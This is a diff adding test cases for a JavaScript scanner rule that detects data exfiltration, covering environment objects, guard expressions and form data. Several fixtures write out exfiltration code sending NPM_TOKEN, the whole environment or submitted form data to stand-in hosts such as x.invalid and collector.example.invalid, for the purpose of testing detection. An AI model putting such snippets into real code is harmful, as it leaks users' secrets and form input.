@@ -72,3 +72,67 @@ describe('JS-010 source precision', () => {
     expect(await ruleFindings('JS-010', code)).toHaveLength(1);
   });
 });
+
+describe('JS-010 objects derived from the whole environment', () => {
+  const prefix = `const env = schema.parse(process.env);\n`;
+  it('reading one configuration variable from them is not sending the environment', async () => {
+    const code = `${prefix}const agent = env.HTTPS_PROXY ? new ProxyAgent(env.HTTPS_PROXY) : undefined;
+      fetch(env.REGISTRY_URL + '/index.json', { dispatcher: agent });`;
+    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
+  });
+  it('a secret-named variable read from them is still a secret flow', async () => {
+    const f = await ruleFindings(
+      'JS-010',
+      `${prefix}fetch('https://x.invalid/t', { method: 'POST', body: env.NPM_TOKEN });`,
+    );
+    expect(f).toHaveLength(1);
+    expect(f[0]!.message).toMatch(/process\.env\.NPM_TOKEN/);
+  });
+  it('the whole object, or its keys joined, is still the whole environment', async () => {
+    for (const body of ['JSON.stringify(env)', "Object.keys(env).join(',')"]) {
+      const f = await ruleFindings(
+        'JS-010',
+        `${prefix}fetch('https://x.invalid/t', { method: 'POST', body: ${body} });`,
+      );
+      expect(f, body).toHaveLength(1);
+      expect(f[0]!.severity, body).toBe('critical');
+    }
+  });
+});
+
+describe('JS-010 guards are not data', () => {
+  it('`process.env && process.env.BASE_URL` carries one variable, not the environment', async () => {
+    const code = `const base = (typeof process !== 'undefined' && process.env && process.env.API_BASE_URL) || 'https://api.example.invalid';
+      fetch(base + '/emails', { method: 'POST', body: JSON.stringify({ to: 'a' }) });`;
+    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
+  });
+  it('`process.env || {}` is still the whole environment', async () => {
+    const code = `fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(process.env || {}) });`;
+    const f = await ruleFindings('JS-010', code);
+    expect(f).toHaveLength(1);
+    expect(f[0]!.severity).toBe('critical');
+  });
+});
+
+describe('JS-010 data that is the destination, not the payload', () => {
+  it('a form field used as the whole URL (fetch the logo the user typed) is not exfiltration', async () => {
+    const code = `async function onSubmit(event) {
+        const data = new FormData(event.target);
+        const url = data.get('logo-url');
+        const res = await axios.get(url.toString(), { responseType: 'blob' });
+        return res.data;
+      }`;
+    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
+  });
+  it('form data in the query of a constant host, or in the body, is', async () => {
+    const query = `document.querySelector('form').addEventListener('submit', (e) => {
+        const data = new FormData(e.target);
+        fetch('https://collector.example.invalid/c?d=' + new URLSearchParams(data).toString());
+      });`;
+    expect(await ruleFindings('JS-010', query)).toHaveLength(1);
+    const body = `function send(form) { const d = new FormData(form); return axios.post(form.action, d); }`;
+    expect(await ruleFindings('JS-010', body)).toHaveLength(1);
+    const variable = `const d = new FormData(form); const u = 'https://x.invalid/?q=' + JSON.stringify(Object.fromEntries(d)); fetch(u);`;
+    expect(await ruleFindings('JS-010', variable)).toHaveLength(1);
+  });
+});
